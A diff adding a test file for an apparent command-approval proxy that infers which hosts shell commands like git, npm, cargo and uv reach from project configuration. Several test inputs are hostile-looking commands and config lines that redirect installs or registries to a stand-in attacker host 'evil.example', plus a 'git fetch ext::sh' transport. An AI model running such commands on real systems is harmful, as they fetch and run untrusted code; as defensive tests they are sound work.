@@ -1,0 +1,117 @@
+"""The hosts that commands are known to reach, by what their own configuration says."""
+
+import os
+import subprocess
+from pathlib import Path
+
+import pytest
+
+from ironcurtain_proxy.facts.commands import Grounds, observed
+from ironcurtain_proxy.facts.git import GitRemotes
+from ironcurtain_proxy.grants.families import described
+from ironcurtain_proxy.model.path import RealPath
+from ironcurtain_proxy.model.place import Place
+from ironcurtain_proxy.shell.families import covers, families_of, sought
+from ironcurtain_proxy.shell.parse import parse_command
+
+
+@pytest.fixture
+def project(tmp_path: Path) -> Path:
+    """A repository on the branch `feature`, in a home directory without any settings."""
+    here = tmp_path / "home/project"
+    here.mkdir(parents=True)
+    git(here, "init", "-q", "-b", "feature")
+    git(here, "remote", "add", "origin", "https://git.example.org/a/b.git")
+    return here
+
+
+def git(here: Path, *words: str) -> None:
+    subprocess.run(["git", "-C", str(here), *words], check=True, env=environment(here))
+
+
+def environment(here: Path) -> dict[str, str]:
+    return {"PATH": os.environ["PATH"], "HOME": str(here.parent), "GIT_CONFIG_NOSYSTEM": "1"}
+
+
+def seen(here: Path, command: str) -> Place:
+    place = Place(
+        workspace=str(here), directory=str(here), home=str(here.parent), has_repository=True
+    )
+    grounds = Grounds(sought=sought, remotes=lambda _: GitRemotes(environment(here)))
+    return observed(parse_command(command), place, grounds, "shell")
+
+
+def hosts(here: Path, command: str) -> tuple[str, ...]:
+    return seen(here, command).every_host()
+
+
+@pytest.mark.parametrize(
+    ("command", "reached"),
+    [
+        ("git fetch origin", ("git.example.org",)),
+        ("git push origin main", ("git.example.org",)),
+        ("git push git@other.example:a/b.git x", ("other.example",)),
+        ("gh pr view 1 | head", ("api.github.com", "github.com")),
+        ("npm ci", ("registry.npmjs.org",)),
+        ("go mod tidy", ("proxy.golang.org", "sum.golang.org")),
+        ("cargo install ripgrep", ("index.crates.io", "static.crates.io")),
+        ("uv pip install rich", ("files.pythonhosted.org", "pypi.org")),
+        ("git fetch origin && npm ci", ("git.example.org", "registry.npmjs.org")),
+        # Nothing that runs beside it is known to reach out.
+        ("go test ./... && cargo build", ()),
+        # Another place is named than configuration says.
+        ("GH_HOST=evil.example gh pr view 1", ()),
+        ("npm_config_registry=https://evil.example npm ci", ()),
+        ("npm ci --registry https://evil.example", ()),
+        ("npm install https://evil.example/x.tgz", ()),
+        ("uv pip install --index-url https://evil.example rich", ()),
+        ("cargo install --git https://evil.example/x", ()),
+        ("git fetch ext::sh", ()),
+        ("git fetch ../elsewhere", ()),
+    ],
+)
+def test_a_command_reaches_what_its_configuration_names(
+    project: Path, command: str, reached: tuple[str, ...]
+) -> None:
+    assert hosts(project, command) == reached
+
+
+@pytest.mark.parametrize(
+    ("said", "reached"),
+    [
+        ("registry=https://npm.example.org/x/\n", ("npm.example.org",)),
+        ("@a:registry=https://a.example\n", ("a.example", "registry.npmjs.org")),
+        ("registry=http://npm.example.org\n", ()),
+        ("registry=https://${HOST}/\n", ()),
+        ("https-proxy=http://evil.example\n", ()),
+        ("registry=https://u@evil.example\n", ()),
+    ],
+)
+def test_the_registry_is_the_one_that_the_project_names(
+    project: Path, said: str, reached: tuple[str, ...]
+) -> None:
+    (project / ".npmrc").write_text(said)
+    assert hosts(project, "npm ci") == reached
+
+
+@pytest.mark.parametrize(
+    ("command", "file"),
+    [("cargo install x", ".cargo/config.toml"), ("uv pip install x", "uv.toml")],
+)
+def test_no_host_is_known_where_a_file_may_name_another(
+    project: Path, command: str, file: str
+) -> None:
+    (project / file).parent.mkdir(exist_ok=True)
+    (project / file).write_text("")
+    assert hosts(project, command) == ()
+
+
+def test_an_approval_is_one_of_the_hosts_and_ends_with_them(project: Path) -> None:
+    command = parse_command("npm ci")
+    approved = families_of(command, seen(project, "npm ci"))
+    assert approved is not None
+    assert covers(approved, command, seen(project, "npm ci"))
+    (said,) = described(approved, RealPath.from_text(str(project)))
+    assert said.endswith("(reaches registry.npmjs.org)")
+    (project.parent / ".npmrc").write_text("registry=https://evil.example\n")
+    assert not covers(approved, command, seen(project, "npm ci"))
